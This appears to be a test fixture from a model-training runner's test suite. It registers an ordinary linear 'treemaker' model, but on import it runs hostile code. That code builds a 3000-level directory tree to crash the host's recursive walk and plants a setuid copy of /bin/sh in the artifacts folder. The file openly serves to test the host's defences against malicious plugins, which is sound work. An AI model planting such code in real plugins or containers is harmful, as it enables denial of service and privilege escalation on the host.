"""A plugin that leaves hostile trees behind from inside the training container (tests/test_attack_trees.py).

At import inside a training (where /exp/config is writable) it builds a directory tree `DEPTH`
levels deep in config/ (deeper than Python's recursion limit: the host's old recursive walk raised
RecursionError on it) and copies /bin/sh into artifacts/zz_suid with mode 06755 (sorted after
config/, so a walk that dies in config/ never reaches it). The registered model `treemaker` is a
plain linear model, so the training itself succeeds.
"""

import os

from torch import nn

from runner.core.models import ProteinModel, register_model

DEPTH = 3000


def _deep_tree(top: str, depth: int) -> None:
    # One directory descriptor at a time: the full path (6000 characters) is longer than PATH_MAX.
    fd = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(depth):
        os.mkdir("d", dir_fd=fd)
        child = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = child
    os.close(fd)


def _plant() -> None:
    os.mkdir("/exp/config/deep")
    _deep_tree("/exp/config/deep", DEPTH)
    with open("/bin/sh", "rb") as src, open("/exp/artifacts/zz_suid", "wb") as dst:
        dst.write(src.read())
    os.chmod("/exp/artifacts/zz_suid", 0o6755)


if os.path.isdir("/exp/config") and os.access("/exp/config", os.W_OK) and not os.path.exists("/exp/config/deep"):
    _plant()


@register_model("treemaker")
class TreeMaker(ProteinModel):
    def __init__(self, seq_len: int, in_dim: int, n_outputs: int = 1):
        super().__init__(seq_len, in_dim, n_outputs)
        self.linear = nn.Linear(seq_len * in_dim, n_outputs)

    def forward(self, x):
        return self._out(self.linear(x.flatten(1)))
